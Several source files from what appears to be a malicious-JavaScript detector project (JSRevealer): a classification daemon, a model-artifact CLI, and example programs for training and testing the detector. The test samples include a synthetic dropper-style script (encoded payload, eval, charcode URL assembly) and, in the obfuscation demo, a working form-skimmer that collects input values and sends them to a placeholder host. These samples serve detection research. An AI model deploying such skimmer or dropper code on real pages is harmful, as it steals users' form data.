  if (!opt.trace_path.empty()) obs::Tracer::global().set_enabled(true);

  const std::unique_ptr<core::JsRevealer> det = run_evaluation(opt);

  if (!opt.explain_path.empty()) {
    std::string source;
    if (!read_file(opt.explain_path, &source)) {
      std::fprintf(stderr, "jsr_stats: cannot read %s\n",
                   opt.explain_path.c_str());
      return 1;
    }
    const obs::VerdictProvenance prov = det->explain(source);
    std::printf("%s\n", prov.to_json().c_str());
  }

  if (!opt.metrics_path.empty()) {
    const std::string json = obs::metrics().to_json();
    if (opt.metrics_path == "-") {
      std::printf("%s\n", json.c_str());
    } else if (!write_file(opt.metrics_path, json + "\n")) {
      std::fprintf(stderr, "jsr_stats: cannot write %s\n",
                   opt.metrics_path.c_str());
      return 1;
    } else {
      std::printf("wrote %s\n", opt.metrics_path.c_str());
    }
  }
  if (!opt.deterministic_path.empty()) {
    if (!write_file(opt.deterministic_path,
                    obs::metrics().deterministic_json() + "\n")) {
      std::fprintf(stderr, "jsr_stats: cannot write %s\n",
                   opt.deterministic_path.c_str());
      return 1;
    }
    std::printf("wrote %s\n", opt.deterministic_path.c_str());
  }
  if (!opt.prom_path.empty()) {
    // One exporter, two consumers: this deliberately goes JSON snapshot →
    // samples → text, exercising the same conversion a remote STATS-frame
    // consumer would run (the admin plane renders straight off the
    // registry; the round-trip test pins both paths byte-identical).
    std::vector<obs::MetricSample> rows;
    std::string error;
    if (!obs::samples_from_metrics_json(obs::metrics().to_json(), &rows,
                                        &error)) {
      std::fprintf(stderr, "jsr_stats: metrics snapshot did not round-trip: "
                   "%s\n", error.c_str());
      return 1;
    }
    const std::string text = obs::render_prometheus(rows);
    if (opt.prom_path == "-") {
      std::fputs(text.c_str(), stdout);
    } else if (!write_file(opt.prom_path, text)) {
      std::fprintf(stderr, "jsr_stats: cannot write %s\n",
                   opt.prom_path.c_str());
      return 1;
    } else {
      std::printf("wrote %s\n", opt.prom_path.c_str());
    }
  }
  if (opt.metrics_table) {
    std::printf("%s", obs::metrics().to_table().c_str());
  }
  if (!opt.trace_path.empty()) {
    obs::Tracer::global().set_enabled(false);
    if (!write_file(opt.trace_path,
                    obs::Tracer::global().export_chrome_json() + "\n")) {
      std::fprintf(stderr, "jsr_stats: cannot write %s\n",
                   opt.trace_path.c_str());
      return 1;
    }
    std::printf("wrote %s (load in Perfetto / chrome://tracing)\n",
                opt.trace_path.c_str());
  }
  return 0;
}
