// jsr_serve: long-lived classification daemon over a trained JSRM model.
//
// Serving modes (exactly one):
//   --stdio        serve one connection on stdin/stdout (tests, pipelines)
//   --unix PATH    listen on a Unix-domain socket
//   --tcp PORT     listen on 127.0.0.1:PORT (0 = ephemeral; port printed)
//
//   jsr_serve --model M.jsrm --stdio [--threads N] [--max-batch N]
//             [--max-queue N] [--deob|--no-deob]
//
// The model opens as a mapped JSRM v3 artifact when possible (zero-copy;
// `jsr_model train --out` writes one) and falls back to the stream loader,
// so every model file the repo can produce is servable. Parse limits and
// the deobfuscate flag default to the model's own configuration; --deob /
// --no-deob override normalization.
//
// Client helper modes (no model; the wire protocol without a binary client):
//   --encode FILE.JS... [--provenance] [--quit]
//       writes one kClassify frame per file to stdout (ids 1..N), then a
//       kQuit frame when --quit is given.
//   --decode
//       reads response frames from stdin, prints one line per response:
//       "<id>\t<payload>" for verdicts (payload is "0"/"1" or provenance
//       JSON), "<id>\tERROR\t<reason>" for errors, "<id>\tPONG" / "BYE".
//
// So a full round trip is:
//   jsr_serve --encode a.js b.js | jsr_serve --model M --stdio |
//       jsr_serve --decode
//
// SIGTERM/SIGINT request a graceful shutdown: in-flight batches finish and
// their responses flush before the process exits. Exit status: 0 = ok,
// 1 = operation failed, 2 = usage error.
#include <csignal>
#include <cstdio>
#include <cstring>
#include <fstream>
#include <sstream>
#include <string>
#include <vector>

#include <unistd.h>

#include "obs/admin.h"
#include "obs/json.h"
#include "obs/log.h"
#include "serve/frame.h"
#include "serve/serve.h"
#include "serve/server.h"
#include "util/string_util.h"

namespace {

using namespace jsrev;

int usage(const char* argv0) {
  std::fprintf(
      stderr,
      "usage: %s --model M [--stdio | --unix PATH | --tcp PORT]\n"
      "          [--threads N] [--max-batch N] [--max-queue N]\n"
      "          [--deob | --no-deob]\n"
      "          [--admin [ADDR:]PORT | --admin-unix PATH]\n"
      "          [--log-level debug|info|warn|error] [--slow-ms N]\n"
      "       %s --encode FILE.JS... [--provenance] [--quit]\n"
      "       %s --decode\n"
      "       %s --admin-get HOST:PORT|unix:PATH /path\n",
      argv0, argv0, argv0, argv0);
  return 2;
}

bool read_file(const std::string& path, std::string* out) {
  std::ifstream in(path, std::ios::binary);
  if (!in) return false;
  std::ostringstream ss;
  ss << in.rdbuf();
  *out = ss.str();
  return true;
}

int cmd_encode(const std::vector<std::string>& files, bool provenance,
               bool quit) {
  std::string out;
  std::uint32_t id = 0;
  for (const std::string& file : files) {
    serve::Frame f;
    f.type = serve::FrameType::kClassify;
    f.id = ++id;
    if (provenance) f.flags |= serve::kWantProvenance;
    if (!read_file(file, &f.payload)) {
      std::fprintf(stderr, "jsr_serve: cannot read %s\n", file.c_str());
      return 1;
    }
    serve::append_frame(f, &out);
  }
  if (quit) {
    serve::Frame f;
    f.type = serve::FrameType::kQuit;
    f.id = ++id;
    serve::append_frame(f, &out);
  }
  std::fwrite(out.data(), 1, out.size(), stdout);
  std::fflush(stdout);
  return 0;
}

int cmd_decode() {
  std::string buf;
  char chunk[64 * 1024];
  std::size_t n = 0;
  while ((n = std::fread(chunk, 1, sizeof(chunk), stdin)) > 0) {
    buf.append(chunk, n);
  }
  std::size_t off = 0;
  while (off < buf.size()) {
    serve::Frame f;
    std::size_t consumed = 0;
    const serve::DecodeStatus st =
        serve::decode_frame(std::string_view(buf).substr(off),
                            buf.size(), &f, &consumed);
    if (st != serve::DecodeStatus::kOk) {
      std::fprintf(stderr, "jsr_serve: --decode: %s at offset %zu\n",
                   std::string(serve::decode_status_name(st)).c_str(), off);
      return 1;
    }
    off += consumed;
    switch (f.type) {
      case serve::FrameType::kVerdict:
        std::printf("%u\t%s%s\n", f.id, f.payload.c_str(),
                    (f.flags & serve::kParseFailed) != 0 ? "\tparse-failed"
                                                         : "");
        break;
      case serve::FrameType::kError:
        std::printf("%u\tERROR\t%s\n", f.id, f.payload.c_str());
        break;
      case serve::FrameType::kPong:
        std::printf("%u\tPONG\n", f.id);
        break;
      case serve::FrameType::kBye:
        std::printf("%u\tBYE\n", f.id);
        break;
      case serve::FrameType::kStatsJson:
        std::printf("%s\n", f.payload.c_str());
        break;
      default:
        std::printf("%u\ttype=%u\n", f.id,
                    static_cast<unsigned>(f.type));
        break;
    }
  }
  return 0;
}

serve::Server* g_server = nullptr;
obs::AdminServer* g_admin = nullptr;

void on_signal(int) {
  if (g_server != nullptr) g_server->request_shutdown();
  if (g_admin != nullptr) g_admin->request_shutdown();
}

int cmd_admin_get(const std::string& endpoint, const std::string& path) {
  std::string body, error;
  const int status = obs::admin_http_get(endpoint, path, &body, &error);
  if (status < 0) {
    std::fprintf(stderr, "jsr_serve: --admin-get: %s\n", error.c_str());
    return 1;
  }
  std::fwrite(body.data(), 1, body.size(), stdout);
  if (status != 200) {
    std::fprintf(stderr, "jsr_serve: --admin-get: HTTP %d\n", status);
    return 1;
  }
  return 0;
}

}  // namespace

int main(int argc, char** argv) {
  std::string model_path, unix_path;
  bool stdio = false, want_tcp = false;
  std::uint64_t tcp_port = 0;
  std::size_t threads = 0, max_batch = 0, max_queue = 0;
  int deob_override = -1;  // -1 model default, 0 off, 1 on
  bool encode = false, decode = false, provenance = false, quit = false;
  std::string admin_spec, admin_unix;
  bool admin_get = false;
  std::uint64_t slow_ms = 0;
  std::vector<std::string> files;

  for (int i = 1; i < argc; ++i) {
    const auto next = [&]() -> const char* {
      return i + 1 < argc ? argv[++i] : nullptr;
    };
    if (std::strcmp(argv[i], "--model") == 0) {
      const char* v = next();
      if (v == nullptr) return usage(argv[0]);
      model_path = v;
    } else if (std::strcmp(argv[i], "--stdio") == 0) {
      stdio = true;
    } else if (std::strcmp(argv[i], "--unix") == 0) {
      const char* v = next();
      if (v == nullptr) return usage(argv[0]);
      unix_path = v;
    } else if (std::strcmp(argv[i], "--tcp") == 0) {
      const char* v = next();
      if (v == nullptr || !parse_u64(v, &tcp_port) || tcp_port > 65535) {
        return usage(argv[0]);
      }
      want_tcp = true;
    } else if (std::strcmp(argv[i], "--threads") == 0) {
      const char* v = next();
      if (v == nullptr || !parse_size(v, &threads)) return usage(argv[0]);
    } else if (std::strcmp(argv[i], "--max-batch") == 0) {
      const char* v = next();
      if (v == nullptr || !parse_size(v, &max_batch) || max_batch == 0) {
        return usage(argv[0]);
      }
    } else if (std::strcmp(argv[i], "--max-queue") == 0) {
      const char* v = next();
      if (v == nullptr || !parse_size(v, &max_queue) || max_queue == 0) {
        return usage(argv[0]);
      }
    } else if (std::strcmp(argv[i], "--deob") == 0) {
      deob_override = 1;
    } else if (std::strcmp(argv[i], "--no-deob") == 0) {
      deob_override = 0;
    } else if (std::strcmp(argv[i], "--admin") == 0) {
      const char* v = next();
      if (v == nullptr) return usage(argv[0]);
      admin_spec = v;
    } else if (std::strcmp(argv[i], "--admin-unix") == 0) {
      const char* v = next();
      if (v == nullptr) return usage(argv[0]);
      admin_unix = v;
    } else if (std::strcmp(argv[i], "--admin-get") == 0) {
      admin_get = true;
    } else if (std::strcmp(argv[i], "--log-level") == 0) {
      const char* v = next();
      obs::LogLevel level{};
      if (v == nullptr || !obs::log_level_from_name(v, &level)) {
        return usage(argv[0]);
      }
      obs::set_log_level(level);
    } else if (std::strcmp(argv[i], "--slow-ms") == 0) {
      const char* v = next();
      if (v == nullptr || !parse_u64(v, &slow_ms)) return usage(argv[0]);
    } else if (std::strcmp(argv[i], "--encode") == 0) {
      encode = true;
    } else if (std::strcmp(argv[i], "--decode") == 0) {
      decode = true;
    } else if (std::strcmp(argv[i], "--provenance") == 0) {
      provenance = true;
    } else if (std::strcmp(argv[i], "--quit") == 0) {
      quit = true;
    } else if (argv[i][0] != '-') {
      files.emplace_back(argv[i]);
    } else {
      return usage(argv[0]);
    }
  }

  if (admin_get) {
    // `--admin-get ENDPOINT PATH`: the two bare operands.
    if (encode || decode || files.size() != 2) return usage(argv[0]);
    return cmd_admin_get(files[0], files[1]);
  }
  if (encode) {
    if (decode || files.empty()) return usage(argv[0]);
    return cmd_encode(files, provenance, quit);
  }
  if (decode) return cmd_decode();

  if (model_path.empty() || !files.empty()) return usage(argv[0]);
  const int modes = (stdio ? 1 : 0) + (unix_path.empty() ? 0 : 1) +
                    (want_tcp ? 1 : 0);
  if (modes != 1) return usage(argv[0]);
  if (!admin_spec.empty() && !admin_unix.empty()) return usage(argv[0]);

  try {
    const serve::ServeModel model(model_path);
    serve::ServeOptions opts = model.options();
    opts.threads = threads;
    if (max_batch != 0) opts.max_batch = max_batch;
    if (max_queue != 0) opts.max_queue = max_queue;
    if (deob_override >= 0) opts.deobfuscate = deob_override == 1;
    opts.slow_ms = static_cast<double>(slow_ms);

    serve::register_build_info(model, model_path);

    serve::Server server(model, opts);

    // Admin telemetry plane, when asked for: /metrics, /healthz, /readyz,
    // /statusz, /tracez on its own listener, never sharing the frame fds.
    std::unique_ptr<obs::AdminServer> admin;
    if (!admin_spec.empty() || !admin_unix.empty()) {
      admin = std::make_unique<obs::AdminServer>();
      if (!admin_unix.empty()) {
        admin->listen_unix(admin_unix);
      } else {
        std::string addr, port_str = admin_spec;
        if (const std::size_t colon = admin_spec.rfind(':');
            colon != std::string::npos) {
          addr = admin_spec.substr(0, colon);
          port_str = admin_spec.substr(colon + 1);
        }
        std::uint64_t port = 0;
        if (!parse_u64(port_str, &port) || port > 65535) return usage(argv[0]);
        admin->listen_tcp(static_cast<std::uint16_t>(port), addr);
      }
      admin->set_ready_check([&server] { return server.ready(); });
      admin->set_status_fields([&server, &model, &model_path,
                                &opts](obs::JsonWriter& w) {
        w.kv("model_path", model_path);
        w.kv("model_name", model.name());
        w.kv("model_format", model.format());
        w.kv("model_format_version",
             static_cast<std::uint64_t>(model.format_version()));
        w.kv("lint_dim", static_cast<std::uint64_t>(model.lint_dim()));
        w.kv("deobfuscate", opts.deobfuscate);
        w.kv("queue_depth",
             static_cast<std::uint64_t>(server.batcher().queue_depth()));
        if (model.view() != nullptr) {
          w.key("sections");
          w.begin_array();
          for (const auto& s : model.view()->info().sections) w.value(s.name);
          w.end_array();
        }
      });
      admin->start();
      // Port discovery for scripts (ephemeral --admin 0): stdout in socket
      // modes; stderr under --stdio, where stdout carries frames.
      if (admin->bound_port() != 0) {
        std::fprintf(stdio ? stderr : stdout, "admin 127.0.0.1:%u\n",
                     admin->bound_port());
        std::fflush(stdio ? stderr : stdout);
      }
      g_admin = admin.get();
    }

    g_server = &server;
    // Declared after `server` and `admin`, so on any exit from this scope —
    // return or exception unwinding — the globals are nulled *before* either
    // object is destroyed. Without this, an exception escaping run() would
    // destroy the server/admin while a late SIGTERM could still reach them
    // through the signal handler (use-after-free).
    struct SignalTargetGuard {
      ~SignalTargetGuard() {
        g_server = nullptr;
        g_admin = nullptr;
      }
    } signal_target_guard;
    std::signal(SIGTERM, on_signal);
    std::signal(SIGINT, on_signal);

    const auto announce = [&](const std::string& endpoint) {
      obs::LogRecord(obs::LogLevel::kInfo, "serve.listening")
          .kv("endpoint", endpoint)
          .kv("model", model_path)
          .kv("format", model.format())
          .kv("deobfuscate", opts.deobfuscate);
    };
    if (stdio) {
      announce("stdio");
      server.serve_fd(STDIN_FILENO, STDOUT_FILENO);
    } else if (!unix_path.empty()) {
      server.listen_unix(unix_path);
      announce("unix:" + unix_path);
      server.run();
    } else {
      server.listen_tcp(static_cast<std::uint16_t>(tcp_port));
      announce("tcp:127.0.0.1:" + std::to_string(server.bound_port()));
      server.run();
    }
    if (admin != nullptr) admin->stop();
  } catch (const std::exception& e) {
    obs::LogRecord(obs::LogLevel::kError, "serve.fatal").kv("what", e.what());
    std::fprintf(stderr, "jsr_serve: %s\n", e.what());
    return 1;
  }
  return 0;
}
