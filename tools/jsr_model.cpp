// jsr_model: model-artifact lifecycle CLI for the JSRM v3 format.
//
// Subcommands:
//   train --out M.jsrm [--scripts N] [--seed N] [--threads N] [--lint]
//         [--stream M.bin] [--legacy-stream M.bin]
//       trains a JsRevealer on a generated corpus and writes the mmap-able
//       artifact; optionally also the stream form (v3, or the v1/v2 legacy
//       layout) for conversion tests.
//   inspect M.jsrm
//       prints the header, the section table (name, offset, size, checksum,
//       verification state), and per-section share of the file.
//   convert IN.bin OUT.jsrm
//       loads a stream model (any version: v1, v2, or v3) and rewrites it
//       as a v3 artifact.
//   classify M.jsrm FILE.JS...
//       maps the artifact and classifies each file (0 = benign,
//       1 = malicious), exercising the exact zero-copy path a serving
//       process would run.
//
// Exit status: 0 = ok, 1 = operation failed, 2 = usage error.
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <fstream>
#include <sstream>
#include <string>
#include <vector>

#include "core/jsrevealer.h"
#include "core/model_view.h"
#include "dataset/generator.h"
#include "util/serialize.h"
#include "util/string_util.h"

namespace {

using namespace jsrev;

int usage(const char* argv0) {
  std::fprintf(
      stderr,
      "usage: %s train --out M.jsrm [--scripts N] [--seed N] [--threads N]\n"
      "          [--lint] [--stream M.bin] [--legacy-stream M.bin]\n"
      "       %s inspect M.jsrm\n"
      "       %s convert IN.bin OUT.jsrm\n"
      "       %s classify M.jsrm FILE.JS...\n",
      argv0, argv0, argv0, argv0);
  return 2;
}

bool read_file(const std::string& path, std::string* out) {
  std::ifstream in(path, std::ios::binary);
  if (!in) return false;
  std::ostringstream ss;
  ss << in.rdbuf();
  *out = ss.str();
  return true;
}

int cmd_train(int argc, char** argv) {
  std::string out_path, stream_path, legacy_path;
  std::uint64_t seed = 42;
  std::size_t scripts = 60, threads = 0;
  bool lint = false;
  for (int i = 2; i < argc; ++i) {
    const auto next = [&]() -> const char* {
      return i + 1 < argc ? argv[++i] : nullptr;
    };
    if (std::strcmp(argv[i], "--out") == 0) {
      const char* v = next();
      if (v == nullptr) return usage(argv[0]);
      out_path = v;
    } else if (std::strcmp(argv[i], "--stream") == 0) {
      const char* v = next();
      if (v == nullptr) return usage(argv[0]);
      stream_path = v;
    } else if (std::strcmp(argv[i], "--legacy-stream") == 0) {
      const char* v = next();
      if (v == nullptr) return usage(argv[0]);
      legacy_path = v;
    } else if (std::strcmp(argv[i], "--scripts") == 0) {
      const char* v = next();
      if (v == nullptr || !parse_size(v, &scripts) || scripts == 0) {
        return usage(argv[0]);
      }
    } else if (std::strcmp(argv[i], "--threads") == 0) {
      const char* v = next();
      if (v == nullptr || !parse_size(v, &threads)) return usage(argv[0]);
    } else if (std::strcmp(argv[i], "--seed") == 0) {
      const char* v = next();
      if (v == nullptr || !parse_u64(v, &seed)) return usage(argv[0]);
    } else if (std::strcmp(argv[i], "--lint") == 0) {
      lint = true;
    } else {
      return usage(argv[0]);
    }
  }
  if (out_path.empty() && stream_path.empty() && legacy_path.empty()) {
    return usage(argv[0]);
  }

  dataset::GeneratorConfig gc;
  gc.seed = seed;
  gc.benign_count = scripts;
  gc.malicious_count = scripts;
  const dataset::Corpus corpus = dataset::generate_corpus(gc);

  core::Config cfg;
  cfg.seed = seed;
  cfg.threads = threads;
  cfg.lint_features = lint;
  core::JsRevealer det(cfg);
  det.train(corpus);

  if (!out_path.empty()) {
    det.save_artifact_file(out_path);
    std::printf("jsr_model: wrote artifact %s (%zu features)\n",
                out_path.c_str(), det.feature_count());
  }
  if (!stream_path.empty()) {
    det.save_file(stream_path);
    std::printf("jsr_model: wrote stream model %s\n", stream_path.c_str());
  }
  if (!legacy_path.empty()) {
    std::ofstream out(legacy_path, std::ios::binary);
    if (!out) {
      std::fprintf(stderr, "jsr_model: cannot write %s\n",
                   legacy_path.c_str());
      return 1;
    }
    det.save_legacy(out);
    std::printf("jsr_model: wrote legacy stream model %s\n",
                legacy_path.c_str());
  }
  return 0;
}

int cmd_inspect(const std::string& path) {
  core::ModelView view;
  try {
    view.map_file(path);
  } catch (const std::exception& e) {
    std::fprintf(stderr, "jsr_model: %s: %s\n", path.c_str(), e.what());
    return 1;
  }
  const core::ArtifactInfo info = view.info();
  const auto& h = info.header;
  std::printf("artifact %s\n", path.c_str());
  std::printf("  version %u, %llu bytes, %u sections\n", h.version,
              static_cast<unsigned long long>(h.file_size), h.section_count);
  std::printf(
      "  embedding_dim=%u feature_dim=%u lint_dim=%u clusters_removed=%u\n",
      h.embedding_dim, h.feature_dim, h.lint_dim, h.clusters_removed);
  std::printf("  vocab_size=%u table_size=%u n_trees=%u path=%u/%u flags=%#x\n",
              h.vocab_size, h.vocab_table_size, h.n_trees, h.path_max_length,
              h.path_max_width, h.flags);
  std::printf("  %-26s %10s %12s %18s  %s\n", "section", "offset", "bytes",
              "fnv1a64", "state");
  for (const core::ArtifactSectionInfo& s : info.sections) {
    std::printf("  %-26s %10llu %12llu %018llx  %s\n", s.name,
                static_cast<unsigned long long>(s.rec.offset),
                static_cast<unsigned long long>(s.rec.size),
                static_cast<unsigned long long>(s.rec.checksum),
                s.checksum_ok ? "ok" : "CORRUPT");
  }
  return 0;
}

int cmd_convert(const std::string& in_path, const std::string& out_path) {
  core::JsRevealer det{core::Config{}};
  try {
    det.load_file(in_path);
  } catch (const std::exception& e) {
    std::fprintf(stderr, "jsr_model: cannot load %s: %s\n", in_path.c_str(),
                 e.what());
    return 1;
  }
  try {
    det.save_artifact_file(out_path);
  } catch (const std::exception& e) {
    std::fprintf(stderr, "jsr_model: cannot write %s: %s\n", out_path.c_str(),
                 e.what());
    return 1;
  }
  std::printf("jsr_model: converted %s -> %s\n", in_path.c_str(),
              out_path.c_str());
  return 0;
}

int cmd_classify(const std::string& model_path,
                 const std::vector<std::string>& files) {
  core::ModelView view;
  try {
    view.map_file(model_path);
  } catch (const std::exception& e) {
    std::fprintf(stderr, "jsr_model: %s: %s\n", model_path.c_str(), e.what());
    return 1;
  }
  int rc = 0;
  for (const std::string& file : files) {
    std::string source;
    if (!read_file(file, &source)) {
      std::fprintf(stderr, "jsr_model: cannot read %s\n", file.c_str());
      rc = 1;
      continue;
    }
    std::printf("%d\t%s\n", view.classify(source), file.c_str());
  }
  return rc;
}

}  // namespace

int main(int argc, char** argv) {
  if (argc < 2) return usage(argv[0]);
  const char* cmd = argv[1];
  if (std::strcmp(cmd, "train") == 0) {
    return cmd_train(argc, argv);
  }
  if (std::strcmp(cmd, "inspect") == 0) {
    if (argc != 3) return usage(argv[0]);
    return cmd_inspect(argv[2]);
  }
  if (std::strcmp(cmd, "convert") == 0) {
    if (argc != 4) return usage(argv[0]);
    return cmd_convert(argv[2], argv[3]);
  }
  if (std::strcmp(cmd, "classify") == 0) {
    if (argc < 4) return usage(argv[0]);
    return cmd_classify(argv[2],
                        std::vector<std::string>(argv + 3, argv + argc));
  }
  return usage(argv[0]);
}
