// Synthetic dropper-style sample exercising several lint rules at once:
// decode-then-execute, timer string eval, long encoded literal, charcode
// assembly, environment fingerprinting, and an implicit-global write.
var payload = unescape("%64%6f%63%75%6d%65%6e%74%2e%77%72%69%74%65%28%27%68%69%27%29");
var blob = "aHR0cDovL2V4YW1wbGUuY29tL2Ryb3BwZXIucGhwP2lkPTEyMzQ1Njc4OTA=";
var parts = [104, 116, 116, 112, 58, 47, 47];
var host = "";
for (var i = 0; i < parts.length; i++) {
  host += String.fromCharCode(parts[i]);
}
if (navigator.userAgent.indexOf("MSIE") > 0 && navigator.platform) {
  tracker = host + blob;
  setTimeout("eval(payload)" + "", 100);
}
eval(payload);
function unreachableTail() {
  return 1;
  cleanup();
}
