// Detector shootout: train JSRevealer and all four baselines on the same
// corpus and compare their degradation on one chosen obfuscator — a compact
// version of the paper's RQ2 comparison you can point at any obfuscator.
//
//   $ ./examples/detector_shootout [JavaScript-Obfuscator|Jfogs|JSObfu|Jshaman]
#include <cstdio>
#include <cstring>
#include <memory>
#include <vector>

#include "baselines/detector.h"
#include "core/jsrevealer.h"
#include "dataset/generator.h"
#include "obfuscators/obfuscator.h"
#include "util/rng.h"
#include "util/table.h"

int main(int argc, char** argv) {
  using namespace jsrev;

  obf::ObfuscatorKind target = obf::ObfuscatorKind::kJavaScriptObfuscator;
  if (argc > 1) {
    for (const obf::ObfuscatorKind kind : obf::kAllObfuscators) {
      if (obf::obfuscator_kind_name(kind) == argv[1]) target = kind;
    }
  }
  const auto obfuscator = obf::make_obfuscator(target);
  std::printf("obfuscator: %s\n", obfuscator->name().c_str());

  dataset::GeneratorConfig gen_cfg;
  gen_cfg.seed = 11;
  gen_cfg.benign_count = 220;
  gen_cfg.malicious_count = 220;
  const dataset::Corpus corpus = dataset::generate_corpus(gen_cfg);
  Rng rng(13);
  const dataset::Split split = dataset::split_corpus(corpus, 150, 150, rng);
  const dataset::Corpus test = dataset::balance(split.test, rng);

  // Obfuscated copy of the test set.
  dataset::Corpus obf_test;
  Rng oseed(17);
  for (const auto& sample : test.samples) {
    dataset::Sample s = sample;
    try {
      s.source = obfuscator->obfuscate(s.source, oseed());
    } catch (const std::exception&) {
      // keep original on failure
    }
    obf_test.samples.push_back(std::move(s));
  }

  std::vector<std::unique_ptr<detect::Detector>> detectors;
  detectors.push_back(std::make_unique<core::JsRevealer>(core::Config{}));
  for (const detect::BaselineKind kind : detect::kAllBaselines) {
    detectors.push_back(detect::make_baseline(kind, 1));
  }

  Table t({"Detector", "clean acc", "clean F1", "obf acc", "obf F1",
           "obf FPR", "obf FNR"});
  for (const auto& det : detectors) {
    std::printf("training %s...\n", det->name().c_str());
    det->train(split.train);
    const ml::Metrics clean = det->evaluate(test);
    const ml::Metrics dirty = det->evaluate(obf_test);
    auto pct = [](double v) {
      char buf[16];
      std::snprintf(buf, sizeof buf, "%.1f", v * 100);
      return std::string(buf);
    };
    t.add_row({det->name(), pct(clean.accuracy), pct(clean.f1),
               pct(dirty.accuracy), pct(dirty.f1), pct(dirty.fpr),
               pct(dirty.fnr)});
  }
  std::fputs(t.to_string().c_str(), stdout);
  return 0;
}
