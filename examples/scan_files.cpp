// File-scanning CLI: train a detector (with family classification) and scan
// JavaScript files from disk — the deployment shape the paper's scalability
// claim (RQ4) targets.
//
//   $ ./examples/scan_files file1.js file2.js ...
//   $ ./examples/scan_files --demo        # scan generated samples instead
#include <cstdio>
#include <cstring>
#include <fstream>
#include <sstream>
#include <string>
#include <vector>

#include "core/family_classifier.h"
#include "core/jsrevealer.h"
#include "dataset/generator.h"
#include "util/rng.h"
#include "util/timer.h"

namespace {

std::string read_file(const std::string& path) {
  std::ifstream in(path, std::ios::binary);
  std::ostringstream out;
  out << in.rdbuf();
  return out.str();
}

}  // namespace

int main(int argc, char** argv) {
  using namespace jsrev;

  // Collect scan targets.
  std::vector<std::pair<std::string, std::string>> targets;  // name, source
  bool demo = argc < 2 || std::strcmp(argv[1], "--demo") == 0;
  if (demo) {
    Rng rng(2026);
    for (int i = 0; i < 4; ++i) {
      std::string tag;
      targets.emplace_back("demo-benign-" + std::to_string(i),
                           dataset::generate_benign(rng, &tag));
      std::string family;
      targets.emplace_back("demo-" + family,
                           dataset::generate_malicious(rng, &family));
      targets.back().first = "demo-" + family + "-" + std::to_string(i);
    }
  } else {
    for (int i = 1; i < argc; ++i) {
      const std::string source = read_file(argv[i]);
      if (source.empty()) {
        std::fprintf(stderr, "warning: %s is empty or unreadable\n", argv[i]);
        continue;
      }
      targets.emplace_back(argv[i], source);
    }
  }
  if (targets.empty()) {
    std::fprintf(stderr, "usage: %s [--demo | file.js ...]\n", argv[0]);
    return 2;
  }

  // Train or load from the model cache (persistence keeps repeat scans at
  // millisecond startup).
  const char* cache_path = "/tmp/jsrevealer_model.bin";
  dataset::GeneratorConfig gc;
  gc.benign_count = 250;
  gc.malicious_count = 250;
  const dataset::Corpus corpus = dataset::generate_corpus(gc);
  core::JsRevealer detector(core::Config{});
  bool loaded = false;
  try {
    detector.load_file(cache_path);
    loaded = true;
    std::fprintf(stderr, "loaded cached model from %s\n", cache_path);
  } catch (const std::exception&) {
    // No (valid) cache: train fresh.
  }
  if (!loaded) {
    std::fprintf(stderr, "training detector...\n");
    detector.train(corpus);
    try {
      detector.save_file(cache_path);
      std::fprintf(stderr, "cached model at %s\n", cache_path);
    } catch (const std::exception& e) {
      std::fprintf(stderr, "warning: could not cache model: %s\n", e.what());
    }
  }
  core::FamilyClassifier families;
  families.train(detector, corpus);

  // Scan.
  std::printf("%-36s %-10s %-16s %s\n", "file", "verdict", "family",
              "latency");
  for (const auto& [name, source] : targets) {
    Timer t;
    const int verdict = detector.classify(source);
    std::string family = "-";
    if (verdict == 1) {
      family = families.classify(detector, source);
      if (family.empty()) family = "unknown";
    }
    std::printf("%-36s %-10s %-16s %.1f ms\n", name.c_str(),
                verdict == 1 ? "MALICIOUS" : "benign", family.c_str(),
                t.elapsed_ms());
  }
  return 0;
}
