// Obfuscation robustness demo: obfuscate one malicious script with each of
// the four obfuscator models and show that JSRevealer's verdict is stable
// while the code's appearance changes completely.
//
//   $ ./examples/obfuscation_robustness
#include <cstdio>
#include <string>

#include "core/jsrevealer.h"
#include "dataset/generator.h"
#include "obfuscators/obfuscator.h"
#include "util/rng.h"

int main() {
  using namespace jsrev;

  // Train a detector.
  dataset::GeneratorConfig gen_cfg;
  gen_cfg.seed = 2023;
  gen_cfg.benign_count = 220;
  gen_cfg.malicious_count = 220;
  const dataset::Corpus corpus = dataset::generate_corpus(gen_cfg);
  Rng rng(5);
  const dataset::Split split = dataset::split_corpus(corpus, 160, 160, rng);
  core::JsRevealer detector(core::Config{});
  std::printf("training...\n");
  detector.train(split.train);

  // A web-skimmer-style payload.
  const std::string skimmer = R"JS(
    var stolen = [];
    function harvest() {
      var inputs = document.getElementsByTagName("input");
      for (var i = 0; i < inputs.length; i++) {
        if (inputs[i].value && inputs[i].value.length > 3) {
          stolen.push(inputs[i].name + "=" + inputs[i].value);
        }
      }
    }
    function exfil() {
      if (stolen.length === 0) { return; }
      var img = new Image();
      img.src = "//3f9a2c.example/c.gif?d=" +
                encodeURIComponent(stolen.join("&"));
      stolen = [];
    }
    document.addEventListener("change", harvest);
    setInterval(exfil, 4000);
  )JS";

  std::printf("\noriginal skimmer -> %s\n",
              detector.classify(skimmer) == 1 ? "MALICIOUS" : "benign");

  for (const obf::ObfuscatorKind kind : obf::kAllObfuscators) {
    const auto obfuscator = obf::make_obfuscator(kind);
    const std::string transformed = obfuscator->obfuscate(skimmer, 99);
    const int verdict = detector.classify(transformed);
    std::printf("\n--- %s (%zu bytes) -> %s ---\n",
                obfuscator->name().c_str(), transformed.size(),
                verdict == 1 ? "MALICIOUS" : "benign");
    // Show the first couple of lines of the transformed code.
    const std::size_t cut = transformed.find('\n', 160);
    std::printf("%.*s...\n",
                static_cast<int>(cut == std::string::npos
                                     ? std::min<std::size_t>(200,
                                                             transformed.size())
                                     : cut),
                transformed.c_str());
  }
  return 0;
}
