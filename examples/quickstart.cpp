// Quickstart: train JSRevealer on a synthetic corpus and classify scripts.
//
//   $ ./examples/quickstart
//
// Walks through the library's minimal API surface: generate a labeled
// corpus, split it, train the detector, evaluate held-out data, and classify
// individual source strings.
#include <cstdio>

#include "core/jsrevealer.h"
#include "dataset/generator.h"
#include "util/rng.h"

int main() {
  using namespace jsrev;

  // 1. Build a labeled corpus (substitute for the paper's malware corpora;
  //    plug in your own dataset::Corpus to train on real samples).
  dataset::GeneratorConfig gen_cfg;
  gen_cfg.seed = 42;
  gen_cfg.benign_count = 200;
  gen_cfg.malicious_count = 200;
  const dataset::Corpus corpus = dataset::generate_corpus(gen_cfg);
  std::printf("corpus: %zu scripts (%zu benign / %zu malicious)\n",
